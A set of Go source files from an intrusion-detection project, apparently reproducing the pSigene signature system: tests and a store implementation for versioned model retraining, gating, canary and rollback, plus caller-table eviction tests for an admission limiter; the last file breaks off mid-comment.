	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/gateway"
	"psigene/internal/httpx"
	"psigene/internal/traffic"
)

// testGate is a fast, lenient gate config for unit tests: small corpora,
// floors the shared trained model comfortably clears.
func testGate() GateConfig {
	return GateConfig{
		MinTPR: 0.80, MaxFPR: 0.05,
		AttackTests: 150, BenignTests: 300,
		Seed: 5, ProbeSamples: 100, ProbeSeed: 9,
	}
}

var (
	trainOnce   sync.Once
	trainModel  *core.Model
	trainErr    error
	bootAttacks []httpx.Request
	bootBenign  []httpx.Request
)

// corpora returns the shared bootstrap corpora; the model trained from
// them is cached for tests that only need a detector.
func corpora(t *testing.T) ([]httpx.Request, []httpx.Request) {
	t.Helper()
	trainOnce.Do(func() {
		bootAttacks = attackgen.NewGenerator(attackgen.CrawlProfile(), 11).Requests(600)
		bootBenign = traffic.NewGenerator(12).Requests(800)
		trainModel, trainErr = core.Train(bootAttacks, bootBenign, core.Config{})
	})
	if trainErr != nil {
		t.Fatalf("training shared model: %v", trainErr)
	}
	return bootAttacks, bootBenign
}

func sharedModel(t *testing.T) *core.Model {
	t.Helper()
	corpora(t)
	return trainModel
}

// neuteredClone returns a detector-equivalent copy of m whose signature
// thresholds are unreachable, so it never alerts — a structurally valid
// but behaviorally broken candidate.
func neuteredClone(t *testing.T, m *core.Model) *core.Model {
	t.Helper()
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatalf("clone save: %v", err)
	}
	c, err := core.Load(&buf)
	if err != nil {
		t.Fatalf("clone load: %v", err)
	}
	for _, s := range c.Signatures {
		s.Threshold = 1.1
	}
	return c
}

func echoUpstream(t *testing.T) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "ok:%s", r.URL.Path)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func TestStoreVersioningAndImmutability(t *testing.T) {
	s, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatalf("OpenStore: %v", err)
	}
	if cur, _ := s.Current(); cur != "" {
		t.Fatalf("empty store current %q", cur)
	}
	v, err := s.NextVersion()
	if err != nil || v != "v000001" {
		t.Fatalf("NextVersion: %q, %v", v, err)
	}

	m := sharedModel(t)
	man, err := s.SaveCandidate(m, core.Manifest{Version: v, CorpusFingerprint: "cafe"})
	if err != nil {
		t.Fatalf("SaveCandidate: %v", err)
	}
	if man.ModelSHA256 == "" || man.Signatures != len(m.Signatures) {
		t.Fatalf("manifest not filled: %+v", man)
	}
	// Artifacts are immutable: same version cannot be rewritten.
	if _, err := s.SaveCandidate(m, core.Manifest{Version: v}); err == nil {
		t.Fatal("overwriting an artifact must fail")
	}
	if v2, _ := s.NextVersion(); v2 != "v000002" {
		t.Fatalf("NextVersion after save: %q", v2)
	}

	// CURRENT only points at stored versions, atomically.
	if err := s.SetCurrent("v000099"); err == nil {
		t.Fatal("promoting a missing version must fail")
	}
	if err := s.SetCurrent(v); err != nil {
		t.Fatalf("SetCurrent: %v", err)
	}
	cur, err := s.Current()
	if err != nil || cur != v {
		t.Fatalf("Current: %q, %v", cur, err)
	}

	got, gotMan, err := s.Load(v)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if gotMan.ModelSHA256 != man.ModelSHA256 || len(got.Signatures) != len(m.Signatures) {
		t.Fatal("loaded artifact does not match saved")
	}
}

func TestGateVerdicts(t *testing.T) {
	m := sharedModel(t)
	rep := RunGate(m, "v000001", testGate())
	if !rep.Pass {
		t.Fatalf("healthy model failed gate: %v", rep.Reasons)
	}
	if len(rep.Tools) != 3 || rep.DeadSignatures != 0 {
		t.Fatalf("report %+v", rep)
	}

	bad := neuteredClone(t, m)
	brep := RunGate(bad, "v000002", testGate())
	if brep.Pass {
		t.Fatal("neutered model passed gate")
	}
	joined := strings.Join(brep.Reasons, "; ")
	if !strings.Contains(joined, "TPR") {
		t.Fatalf("reasons %q do not mention the TPR floor", joined)
	}

	// A subsumed regression cap of 0 with a model audited above it fails
	// the gate only via the explicit cap — exercised through MaxSubsumed
	// when the audit reports any; with a healthy model the gate stays
	// green either way.
	zero := 0
	cfg := testGate()
	cfg.MaxSubsumed = &zero
	crep := RunGate(m, "v000001", cfg)
	if crep.Subsumed > 0 && crep.Pass {
		t.Fatal("subsumed cap not enforced")
	}
	if crep.Subsumed == 0 && !crep.Pass {
		t.Fatalf("healthy model under cap failed: %v", crep.Reasons)
	}
}

func TestRunnerPromotesWithoutGateway(t *testing.T) {
	attacks, benign := corpora(t)
	store, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatalf("OpenStore: %v", err)
	}
	r := NewRunner(store, GenSource{Profile: attackgen.CrawlProfile(), Seed: 400, N: 120}, RunnerConfig{Gate: testGate()})

	if _, err := r.Round(nil); err == nil {
		t.Fatal("Round before Bootstrap must fail")
	}
	man, err := r.Bootstrap(attacks, benign, core.Config{})
	if err != nil {
		t.Fatalf("Bootstrap: %v", err)
	}
	if man.Version != "v000001" || man.CorpusFingerprint == "" {
		t.Fatalf("bootstrap manifest %+v", man)
	}
	if _, err := r.Bootstrap(attacks, benign, core.Config{}); err == nil {
		t.Fatal("double bootstrap must fail")
	}

	d, err := r.Round(nil)
	if err != nil {
		t.Fatalf("Round: %v", err)
	}
	if d.Action != "promoted" || d.Version != "v000002" || d.Parent != "v000001" {
		t.Fatalf("decision %+v", d)
	}
	if cur, _ := store.Current(); cur != "v000002" {
		t.Fatalf("current %q after promotion", cur)
	}
	if d.FreshSamples == 0 || d.Gate == nil || !d.Gate.Pass {
		t.Fatalf("decision details %+v", d)
	}

	// The journal has one line per round.
	raw, err := os.ReadFile(store.DecisionLog())
	if err != nil {
		t.Fatalf("decision log: %v", err)
	}
	if lines := strings.Count(string(raw), "\n"); lines != 1 {
		t.Fatalf("decision log has %d lines, want 1", lines)
	}
}

func TestRunnerCanaryRejectionKeepsServing(t *testing.T) {
	attacks, benign := corpora(t)
	store, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatalf("OpenStore: %v", err)
	}
	cfg := RunnerConfig{Gate: testGate()}
	// An unreachable sample floor forces canary rejection regardless of
	// agreement.
	cfg.Canary.MinSampled = 1 << 40
	r := NewRunner(store, GenSource{Profile: attackgen.CrawlProfile(), Seed: 500, N: 120}, cfg)
	if _, err := r.Bootstrap(attacks, benign, core.Config{}); err != nil {
		t.Fatalf("Bootstrap: %v", err)
	}

	m, man, err := r.CurrentDetector()
	if err != nil {
		t.Fatalf("CurrentDetector: %v", err)
	}
	up := echoUpstream(t)
	gw, err := gateway.New(up.URL, m, gateway.Options{
		Client: up.Client(), ModelVersion: man.Version, ModelSHA256: man.ModelSHA256,
	})
	if err != nil {
		t.Fatalf("gateway.New: %v", err)
	}
	r.AttachGateway(gw)

	d, err := r.Round(func() error {
		ReplayMix(gw, 40, 10, 71)
		return nil
	})
	if err != nil {
		t.Fatalf("Round: %v", err)
	}
	if d.Action != "canary-rejected" {
		t.Fatalf("action %q, want canary-rejected", d.Action)
	}
	if d.Canary == nil || d.Canary.Sampled == 0 {
		t.Fatalf("canary report %+v", d.Canary)
	}
	if snap := gw.Snapshot(); snap.ModelVersion != "v000001" {
		t.Fatalf("serving %q after canary rejection, want v000001", snap.ModelVersion)
	}
	if cur, _ := store.Current(); cur != "v000001" {
		t.Fatalf("current %q after canary rejection", cur)
	}
	if _, ok := gw.CanaryReport(); ok {
		t.Fatal("canary still active after rejection")
	}
}

func TestRollbackRequiresParent(t *testing.T) {
	attacks, benign := corpora(t)
	store, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatalf("OpenStore: %v", err)
	}
	r := NewRunner(store, GenSource{Profile: attackgen.CrawlProfile(), Seed: 600, N: 100}, RunnerConfig{Gate: testGate()})
	if _, err := r.Rollback(); err == nil {
		t.Fatal("rollback on empty store must fail")
	}
	if _, err := r.Bootstrap(attacks, benign, core.Config{}); err != nil {
		t.Fatalf("Bootstrap: %v", err)
	}
	if _, err := r.Rollback(); err == nil {
		t.Fatal("rollback of the root version must fail")
	}
}

func TestReplayMixDeterministicAndComplete(t *testing.T) {
	blocked := 0
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// Stand-in detector: block anything with a quote.
		if strings.Contains(r.URL.RawQuery, "%27") || strings.Contains(r.URL.RawQuery, "'") {
			blocked++
			w.WriteHeader(http.StatusForbidden)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	a := ReplayMix(h, 30, 10, 7)
	b := ReplayMix(h, 30, 10, 7)
	if len(a) != 40 || len(b) != 40 {
		t.Fatalf("mix lengths %d/%d, want 40", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("replay diverged at %d: %d vs %d", i, a[i], b[i])
		}
	}
	if blocked == 0 {
		t.Fatal("attack stream produced no blockable requests")
	}
}

func TestCrawlSourceCheckpointPersists(t *testing.T) {
	// Covered in depth by the chaos test; here just the happy path: a
	// clean portal yields samples and a Done checkpoint.
	srv := startPortal(t, 16, 77, cleanFaults())
	dir := t.TempDir()
	src := &CrawlSource{
		URL:            srv.URL,
		Options:        crawlOptions(srv),
		CheckpointPath: filepath.Join(dir, "cp.json"),
	}
	samples, err := src.Fetch(1)
	if err != nil {
		t.Fatalf("Fetch: %v", err)
	}
	if len(samples) == 0 {
		t.Fatal("no samples from clean portal")
	}
	if _, err := os.Stat(src.CheckpointPath); err != nil {
		t.Fatalf("checkpoint not persisted: %v", err)
	}
}
