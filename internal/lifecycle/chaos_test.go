package lifecycle

import (
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"testing"
	"time"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/crawl"
	"psigene/internal/faultify"
	"psigene/internal/gateway"
	"psigene/internal/portal"
)

// startPortal serves a deterministic vulnerability portal behind a fault
// injector. Fault schedules key on method+path, so two servers built with
// the same seeds present identical content and identical faults
// regardless of which port they land on.
func startPortal(t *testing.T, entries int, portalSeed int64, faults faultify.Config) *httptest.Server {
	t.Helper()
	gen := attackgen.NewGenerator(attackgen.CrawlProfile(), portalSeed)
	p := portal.New("lifecycle", portal.StyleHTML, 5, portal.GenerateEntries(gen, entries))
	srv := httptest.NewServer(faultify.New(faults).Wrap(p.Handler()))
	t.Cleanup(srv.Close)
	return srv
}

func cleanFaults() faultify.Config { return faultify.Config{Seed: 42} }

// crawlOptions are the crawler knobs for chaos runs: injected no-op
// sleeper (zero wall-clock waits on backoff) and a short timeout so hang
// faults resolve fast.
func crawlOptions(srv *httptest.Server) crawl.Options {
	return crawl.Options{
		Client:  srv.Client(),
		Sleep:   func(time.Duration) {},
		Timeout: 150 * time.Millisecond,
		Seed:    11,
	}
}

// scenarioResult is everything one full lifecycle scenario produces that
// must be bit-identical across same-seed runs.
type scenarioResult struct {
	actions   []string          // decision actions in order
	versions  []string          // candidate/target versions per decision
	serving   []string          // gateway ModelVersion after each step
	replays   [][]int           // response status sequences per canary replay
	decisions []byte            // decisions.jsonl, raw
	manifests map[string][]byte // version -> manifest.json, raw
}

// runScenario executes the acceptance round: bootstrap from scratch;
// round 1 crawls a faulty portal, retrains, and has its candidate
// tampered into a dud — the gate must reject it and keep v000001
// serving; round 2 crawls the second faulty portal and the clean
// candidate must pass the gate, survive the canary, and promote; then a
// forced rollback rewinds to v000001. No wall-clock sleeps anywhere: the
// crawler's sleeper is a no-op and all traffic is replayed in-process.
func runScenario(t *testing.T, root string) scenarioResult {
	t.Helper()

	portalA := startPortal(t, 24, 21, faultify.Config{Seed: 42, Rates: faultify.Uniform(0.20), Repeats: 2})
	portalB := startPortal(t, 24, 22, faultify.Config{Seed: 43, Rates: faultify.Uniform(0.20), Repeats: 2})
	up := echoUpstream(t)

	store, err := OpenStore(filepath.Join(root, "store"))
	if err != nil {
		t.Fatalf("OpenStore: %v", err)
	}
	sources := RoundSources{
		&CrawlSource{URL: portalA.URL, Options: crawlOptions(portalA), CheckpointPath: filepath.Join(root, "a.checkpoint")},
		&CrawlSource{URL: portalB.URL, Options: crawlOptions(portalB), CheckpointPath: filepath.Join(root, "b.checkpoint")},
	}
	cfg := RunnerConfig{
		Gate: GateConfig{
			MinTPR: 0.80, MaxFPR: 0.05,
			AttackTests: 200, BenignTests: 400,
			Seed: 5, ProbeSamples: 150, ProbeSeed: 9,
		},
		Canary: CanaryOptions{Fraction: 1, Seed: 31, MinSampled: 1, MaxRegressions: 25},
		// Round 1's candidate is sabotaged after retraining: thresholds
		// pushed past 1 so it never alerts. The gate must catch it.
		Tamper: func(round int, m *core.Model) *core.Model {
			if round != 1 {
				return nil
			}
			return neuteredClone(t, m)
		},
	}
	runner := NewRunner(store, sources, cfg)

	attacks, benign := corpora(t)
	if _, err := runner.Bootstrap(attacks, benign, core.Config{}); err != nil {
		t.Fatalf("Bootstrap: %v", err)
	}

	m, man, err := runner.CurrentDetector()
	if err != nil {
		t.Fatalf("CurrentDetector: %v", err)
	}
	gw, err := gateway.New(up.URL, m, gateway.Options{
		Client: up.Client(), ModelVersion: man.Version, ModelSHA256: man.ModelSHA256,
	})
	if err != nil {
		t.Fatalf("gateway.New: %v", err)
	}
	runner.AttachGateway(gw)

	res := scenarioResult{manifests: map[string][]byte{}}
	record := func(action, version string) {
		res.actions = append(res.actions, action)
		res.versions = append(res.versions, version)
		res.serving = append(res.serving, gw.Snapshot().ModelVersion)
	}
	replay := func() error {
		res.replays = append(res.replays, ReplayMix(gw, 60, 20, 71))
		return nil
	}

	// Round 1: faulty crawl, incremental retrain, tampered candidate.
	d1, err := runner.Round(replay)
	if err != nil {
		t.Fatalf("round 1: %v", err)
	}
	if d1.Action != "gate-rejected" || d1.Version != "v000002" || d1.Parent != "v000001" {
		t.Fatalf("round 1 decision %+v, want gate-rejected v000002", d1)
	}
	if d1.FreshSamples == 0 {
		t.Fatal("round 1 crawled no fresh samples")
	}
	if got := gw.Snapshot().ModelVersion; got != "v000001" {
		t.Fatalf("serving %q after gate rejection, want v000001", got)
	}
	if cur, _ := store.Current(); cur != "v000001" {
		t.Fatalf("CURRENT %q after gate rejection", cur)
	}
	if len(res.replays) != 0 {
		t.Fatal("gate-rejected round must not reach the canary replay")
	}
	record(d1.Action, d1.Version)

	// Round 2: second portal, clean candidate — gate, canary, promote.
	d2, err := runner.Round(replay)
	if err != nil {
		t.Fatalf("round 2: %v", err)
	}
	if d2.Action != "promoted" || d2.Version != "v000003" || d2.Parent != "v000001" {
		t.Fatalf("round 2 decision %+v, want promoted v000003 from v000001", d2)
	}
	if d2.Canary == nil || d2.Canary.Sampled == 0 || d2.Canary.Panics != 0 {
		t.Fatalf("round 2 canary %+v", d2.Canary)
	}
	if got := gw.Snapshot().ModelVersion; got != "v000003" {
		t.Fatalf("serving %q after promotion, want v000003", got)
	}
	if cur, _ := store.Current(); cur != "v000003" {
		t.Fatalf("CURRENT %q after promotion", cur)
	}
	record(d2.Action, d2.Version)

	// Forced rollback: the pointer and the gateway rewind to the parent.
	d3, err := runner.Rollback()
	if err != nil {
		t.Fatalf("rollback: %v", err)
	}
	if d3.Action != "rolled-back" || d3.Version != "v000001" {
		t.Fatalf("rollback decision %+v", d3)
	}
	if got := gw.Snapshot().ModelVersion; got != "v000001" {
		t.Fatalf("serving %q after rollback, want v000001", got)
	}
	if cur, _ := store.Current(); cur != "v000001" {
		t.Fatalf("CURRENT %q after rollback", cur)
	}
	record(d3.Action, d3.Version)

	raw, err := os.ReadFile(store.DecisionLog())
	if err != nil {
		t.Fatalf("decision log: %v", err)
	}
	res.decisions = raw
	versions, err := store.Versions()
	if err != nil {
		t.Fatalf("Versions: %v", err)
	}
	if len(versions) != 3 {
		t.Fatalf("stored versions %v, want 3", versions)
	}
	for _, v := range versions {
		mb, err := os.ReadFile(filepath.Join(store.VersionDir(v), core.ManifestFile))
		if err != nil {
			t.Fatalf("manifest %s: %v", v, err)
		}
		res.manifests[v] = mb
	}
	return res
}

// TestLifecycleChaosDeterministic is the acceptance test: one full
// lifecycle round under injected crawl faults — faulty crawl →
// incremental retrain → gate rejection of a sabotaged candidate (old
// model keeps serving) → gate pass → canary → promote → forced rollback
// — run twice with the same seeds, asserting bit-identical manifests,
// decision journals and replayed verdict sequences. Zero wall-clock
// sleeps on either run.
func TestLifecycleChaosDeterministic(t *testing.T) {
	a := runScenario(t, t.TempDir())
	b := runScenario(t, t.TempDir())

	if !reflect.DeepEqual(a.actions, b.actions) || !reflect.DeepEqual(a.versions, b.versions) {
		t.Fatalf("decision sequences diverged:\n%v %v\n%v %v", a.actions, a.versions, b.actions, b.versions)
	}
	if !reflect.DeepEqual(a.serving, b.serving) {
		t.Fatalf("serving sequences diverged: %v vs %v", a.serving, b.serving)
	}
	if !reflect.DeepEqual(a.replays, b.replays) {
		t.Fatal("canary replay verdict sequences diverged between same-seed runs")
	}
	if string(a.decisions) != string(b.decisions) {
		t.Fatalf("decision journals diverged:\n--- run A\n%s--- run B\n%s", a.decisions, b.decisions)
	}
	if len(a.manifests) != len(b.manifests) {
		t.Fatalf("manifest counts diverged: %d vs %d", len(a.manifests), len(b.manifests))
	}
	for v, raw := range a.manifests {
		if string(raw) != string(b.manifests[v]) {
			t.Fatalf("manifest %s diverged:\n--- run A\n%s--- run B\n%s", v, raw, b.manifests[v])
		}
	}

	// The blocked share of each replay proves both detectors scored live
	// traffic: some requests forwarded (200), some blocked (403).
	for i, codes := range a.replays {
		var ok, blocked int
		for _, c := range codes {
			switch c {
			case 200:
				ok++
			case 403:
				blocked++
			}
		}
		if ok == 0 || blocked == 0 {
			t.Fatalf("replay %d: %d forwarded / %d blocked — detector not exercised", i, ok, blocked)
		}
	}
}
