// Package lifecycle closes the loop the paper leaves open: pSigene
// describes crawling, training and evaluating as one-shot steps, and this
// package strings the reproduced subsystems into a continuous
// crawl → retrain → validate → canary cycle over versioned model
// artifacts (core.SaveArtifact/LoadArtifact). A Store keeps the artifact
// lineage on disk; RunGate holds candidates to TPR/FPR floors and the
// signature-audit checks; the Runner drives rounds end to end against a
// serving gateway, promoting through its canary stage or rolling back.
//
// The whole package is clock-free and seed-deterministic: no timestamps,
// no wall-clock reads, no unseeded randomness. Two runs with the same
// seeds, sources and faults produce bit-identical manifests, decisions
// and verdict sequences — which is what makes the chaos tests able to
// assert byte equality across runs.
package lifecycle

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"psigene/internal/core"
)

const (
	versionsDir = "versions"
	currentFile = "CURRENT"
	decisionLog = "decisions.jsonl"
)

// Store is the on-disk home of a model lineage: immutable artifact
// directories under versions/ plus a CURRENT pointer naming the one in
// production. Layout:
//
//	<root>/versions/v000001/{manifest.json,model.json}
//	<root>/versions/v000002/...
//	<root>/CURRENT
//	<root>/decisions.jsonl
type Store struct {
	root string
}

// OpenStore opens (creating if needed) a store rooted at dir.
func OpenStore(dir string) (*Store, error) {
	if err := os.MkdirAll(filepath.Join(dir, versionsDir), 0o755); err != nil {
		return nil, fmt.Errorf("lifecycle: open store: %w", err)
	}
	return &Store{root: dir}, nil
}

// Root returns the store's root directory.
func (s *Store) Root() string { return s.root }

// VersionDir returns the artifact directory for a version name.
func (s *Store) VersionDir(version string) string {
	return filepath.Join(s.root, versionsDir, version)
}

// DecisionLog returns the path of the append-only decision journal.
func (s *Store) DecisionLog() string {
	return filepath.Join(s.root, decisionLog)
}

// Versions lists stored version names in lexicographic (= numeric, the
// names are zero-padded) order.
func (s *Store) Versions() ([]string, error) {
	ents, err := os.ReadDir(filepath.Join(s.root, versionsDir))
	if err != nil {
		return nil, fmt.Errorf("lifecycle: list versions: %w", err)
	}
	var out []string
	for _, e := range ents {
		if e.IsDir() && strings.HasPrefix(e.Name(), "v") {
			out = append(out, e.Name())
		}
	}
	sort.Strings(out)
	return out, nil
}

// NextVersion returns the name the next saved candidate will get:
// v000001 for an empty store, else one past the highest stored version.
func (s *Store) NextVersion() (string, error) {
	vs, err := s.Versions()
	if err != nil {
		return "", err
	}
	next := 1
	for _, v := range vs {
		var n int
		if _, err := fmt.Sscanf(v, "v%06d", &n); err == nil && n >= next {
			next = n + 1
		}
	}
	return fmt.Sprintf("v%06d", next), nil
}

// SaveCandidate writes m as the artifact for man.Version (the caller
// supplies Version, Parent and CorpusFingerprint; see
// core.Model.SaveArtifact for the fields filled in). The artifact is
// immutable: saving an existing version fails.
func (s *Store) SaveCandidate(m *core.Model, man core.Manifest) (core.Manifest, error) {
	return m.SaveArtifact(s.VersionDir(man.Version), man)
}

// Current returns the version CURRENT points at, or "" when the store
// has no promoted model yet.
func (s *Store) Current() (string, error) {
	raw, err := os.ReadFile(filepath.Join(s.root, currentFile))
	if os.IsNotExist(err) {
		return "", nil
	}
	if err != nil {
		return "", fmt.Errorf("lifecycle: read CURRENT: %w", err)
	}
	return strings.TrimSpace(string(raw)), nil
}

// SetCurrent atomically repoints CURRENT at version, which must exist in
// the store. The pointer is written to a temp file and renamed, so a
// crash mid-promotion leaves the old pointer intact.
func (s *Store) SetCurrent(version string) error {
	if _, err := core.ReadManifest(s.VersionDir(version)); err != nil {
		return fmt.Errorf("lifecycle: promote %s: %w", version, err)
	}
	tmp, err := os.CreateTemp(s.root, ".current-*")
	if err != nil {
		return fmt.Errorf("lifecycle: stage CURRENT: %w", err)
	}
	name := tmp.Name()
	if _, err := tmp.WriteString(version + "\n"); err != nil {
		_ = tmp.Close()
		_ = os.Remove(name)
		return fmt.Errorf("lifecycle: write CURRENT: %w", err)
	}
	if err := tmp.Close(); err != nil {
		_ = os.Remove(name)
		return fmt.Errorf("lifecycle: write CURRENT: %w", err)
	}
	if err := os.Rename(name, filepath.Join(s.root, currentFile)); err != nil {
		_ = os.Remove(name)
		return fmt.Errorf("lifecycle: publish CURRENT: %w", err)
	}
	return nil
}

// Load loads one stored version, hash-verified.
func (s *Store) Load(version string) (*core.Model, core.Manifest, error) {
	return core.LoadArtifact(s.VersionDir(version))
}

// Manifest reads one stored version's manifest without loading the model.
func (s *Store) Manifest(version string) (core.Manifest, error) {
	return core.ReadManifest(s.VersionDir(version))
}

// appendDecision writes one decision as a JSON line to the journal.
func (s *Store) appendDecision(d *Decision) error {
	raw, err := json.Marshal(d)
	if err != nil {
		return fmt.Errorf("lifecycle: encode decision: %w", err)
	}
	f, err := os.OpenFile(s.DecisionLog(), os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		return fmt.Errorf("lifecycle: open decision log: %w", err)
	}
	_, werr := f.Write(append(raw, '\n'))
	cerr := f.Close()
	if werr != nil {
		return fmt.Errorf("lifecycle: append decision: %w", werr)
	}
	if cerr != nil {
		return fmt.Errorf("lifecycle: close decision log: %w", cerr)
	}
	return nil
}
