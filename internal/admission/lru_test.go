package admission

import (
	"fmt"
	"sync"
	"testing"
)

func TestCallerTableBoundedEviction(t *testing.T) {
	// One shard, capacity 4: the fifth distinct key must evict the least
	// recently used, and touching a key must protect it.
	tab := newCallerTable(1, 4)
	touch := func(key string) *callerState {
		var got *callerState
		tab.withState(key, 0, func(st *callerState) { got = st })
		return got
	}
	for i := 0; i < 4; i++ {
		st := touch(fmt.Sprintf("k%d", i))
		st.strikes = i + 1 // marker to detect state loss
	}
	touch("k0") // k0 becomes most recent; k1 is now LRU
	touch("k4") // evicts k1
	tracked, evictions := tab.stats()
	if tracked != 4 || evictions != 1 {
		t.Fatalf("tracked=%d evictions=%d, want 4 and 1", tracked, evictions)
	}
	if st := touch("k0"); st.strikes != 1 {
		t.Fatalf("k0 state lost: strikes=%d", st.strikes)
	}
	// k1 was evicted, so re-touching it creates fresh state (evicting k2,
	// the new LRU).
	if st := touch("k1"); st.strikes != 0 {
		t.Fatalf("evicted k1 kept state: strikes=%d", st.strikes)
	}
	if _, evictions = tab.stats(); evictions != 2 {
		t.Fatalf("evictions=%d, want 2", evictions)
	}
}

func TestCallerTableEvictionSparesBoxed(t *testing.T) {
	// A penalty-boxed caller that complies with Retry-After goes idle and
	// drifts to the tail; key churn must not wash out its block — eviction
	// prefers the LRU non-boxed entry.
	tab := newCallerTable(1, 4)
	touch := func(key string, now int64) *callerState {
		var got *callerState
		tab.withState(key, now, func(st *callerState) { got = st })
		return got
	}
	for i := 0; i < 4; i++ {
		touch(fmt.Sprintf("k%d", i), 0)
	}
	// k0 is the LRU tail; box it until t=100.
	tab.withState("k0", 0, func(st *callerState) { st.blockedUntil = 100; st.strikes = 2 })
	// ...which makes k0 most-recent; push it back to the tail region.
	touch("k1", 1)
	touch("k2", 1)
	touch("k3", 1)
	// Churn two fresh keys mid-block: the boxed k0 must survive both
	// evictions while non-boxed LRU entries (k1, then k2) go instead.
	touch("n0", 50)
	touch("n1", 50)
	if st := touch("k0", 50); st.blockedUntil != 100 || st.strikes != 2 {
		t.Fatalf("boxed k0 lost its penalty state: %+v", *st)
	}
	if _, evictions := tab.stats(); evictions != 2 {
		t.Fatalf("evictions=%d, want 2", evictions)
	}
	// Once the block lapses the entry is ordinary LRU prey again.
	tab.withState("k0", 150, func(st *callerState) { st.blockedUntil = 0 })
	touch("n2", 150) // evicts the now-unboxed LRU entry, bound holds
	tracked, _ := tab.stats()
	if tracked != 4 {
		t.Fatalf("tracked=%d, want the cap of 4", tracked)
	}
}

func TestCallerTableEvictionAllBoxedFallsBack(t *testing.T) {
	// The boxed exemption is best-effort: when every entry is boxed the
	// memory bound wins and the true LRU tail is evicted anyway.
	tab := newCallerTable(1, 3)
	for i := 0; i < 3; i++ {
		tab.withState(fmt.Sprintf("k%d", i), 0, func(st *callerState) { st.blockedUntil = 1000 })
	}
	tab.withState("fresh", 5, func(st *callerState) {})
	tracked, evictions := tab.stats()
	if tracked != 3 || evictions != 1 {
		t.Fatalf("tracked=%d evictions=%d, want 3 and 1", tracked, evictions)
	}
	// k0 (the tail) was sacrificed; k1 and k2 keep their blocks.
	var gone bool
	tab.shards[0].mu.Lock()
	_, ok := tab.shards[0].entries["k0"]
	gone = !ok
	tab.shards[0].mu.Unlock()
	if !gone {
		t.Fatal("all-boxed shard must still evict its tail to hold the bound")
	}
}

func TestCallerTableShardRounding(t *testing.T) {
	// Shard counts round up to powers of two; capacity splits per shard
	// with a floor of one.
	tab := newCallerTable(5, 3)
	if len(tab.shards) != 8 {
		t.Fatalf("5 shards rounded to %d, want 8", len(tab.shards))
	}
	for i := range tab.shards {
		if tab.shards[i].cap != 1 {
			t.Fatalf("shard %d cap %d, want floor of 1", i, tab.shards[i].cap)
		}
	}
}

func TestCallerTableConcurrentChurn(t *testing.T) {
	// Hammer a small table from many goroutines: the race detector owns
	// correctness here; we assert only the bound holds afterwards.
	tab := newCallerTable(4, 64)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				key := fmt.Sprintf("g%d-k%d", g, i%100)
				tab.withState(key, 0, func(st *callerState) { st.rejections++ })
			}
		}(g)
	}
	wg.Wait()
	tracked, _ := tab.stats()
	if tracked > 64 {
		t.Fatalf("tracked=%d exceeds the 64-caller bound", tracked)
	}
}
