package admission

import (
	"fmt"
	"sync"
	"testing"
)

func TestCallerTableBoundedEviction(t *testing.T) {
	// One shard, capacity 4: the fifth distinct key must evict the least
	// recently used, and touching a key must protect it.
	tab := newCallerTable(1, 4)
	touch := func(key string) *callerState {
		var got *callerState
		tab.withState(key, func(st *callerState) { got = st })
		return got
	}
	for i := 0; i < 4; i++ {
		st := touch(fmt.Sprintf("k%d", i))
		st.strikes = i + 1 // marker to detect state loss
	}
	touch("k0") // k0 becomes most recent; k1 is now LRU
	touch("k4") // evicts k1
	tracked, evictions := tab.stats()
	if tracked != 4 || evictions != 1 {
		t.Fatalf("tracked=%d evictions=%d, want 4 and 1", tracked, evictions)
	}
	if st := touch("k0"); st.strikes != 1 {
		t.Fatalf("k0 state lost: strikes=%d", st.strikes)
	}
	// k1 was evicted, so re-touching it creates fresh state (evicting k2,
	// the new LRU).
	if st := touch("k1"); st.strikes != 0 {
		t.Fatalf("evicted k1 kept state: strikes=%d", st.strikes)
	}
	if _, evictions = tab.stats(); evictions != 2 {
		t.Fatalf("evictions=%d, want 2", evictions)
	}
}

func TestCallerTableShardRounding(t *testing.T) {
	// Shard counts round up to powers of two; capacity splits per shard
	// with a floor of one.
	tab := newCallerTable(5, 3)
	if len(tab.shards) != 8 {
		t.Fatalf("5 shards rounded to %d, want 8", len(tab.shards))
	}
	for i := range tab.shards {
		if tab.shards[i].cap != 1 {
			t.Fatalf("shard %d cap %d, want floor of 1", i, tab.shards[i].cap)
		}
	}
}

func TestCallerTableConcurrentChurn(t *testing.T) {
	// Hammer a small table from many goroutines: the race detector owns
	// correctness here; we assert only the bound holds afterwards.
	tab := newCallerTable(4, 64)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				key := fmt.Sprintf("g%d-k%d", g, i%100)
				tab.withState(key, func(st *callerState) { st.rejections++ })
			}
		}(g)
	}
	wg.Wait()
	tracked, _ := tab.stats()
	if tracked > 64 {
		t.Fatalf("tracked=%d exceeds the 64-caller bound", tracked)
	}
}
