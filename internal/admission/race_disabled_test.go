//go:build !race

package admission

// raceEnabled relaxes timing assertions when the race detector's ~10x
// slowdown would make them meaningless.
const raceEnabled = false
