package admission

import (
	"net"
	"net/http"
	"net/netip"
	"strings"
)

// Caller identity is the keyed limiters' unit of accounting, so its
// derivation is security-critical: a client that can choose its own key
// at will gets a fresh limiter per request and the per-caller tiers
// degrade to no limit at all. The rules:
//
//   - The socket peer address is the ground truth. X-Forwarded-For is
